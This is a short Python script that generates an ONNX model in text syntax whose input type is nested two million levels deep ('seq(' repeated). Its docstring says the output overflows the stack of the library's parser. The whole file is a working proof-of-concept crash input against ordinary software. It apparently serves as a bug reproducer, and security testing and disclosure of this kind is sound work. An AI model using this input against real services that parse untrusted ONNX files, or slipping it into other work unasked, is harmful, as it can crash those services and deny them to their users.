"""Writes a model in ONNX's text syntax that overflows the stack of the library's parser."""

import sys

depth = 2_000_000
print('<ir_version: 10, opset_import: ["" : 23]>')
sys.stdout.write("g (" + "seq(" * depth + "float" + ")" * depth + " x) => (float[4] y) { y = Relu(x) }\n")
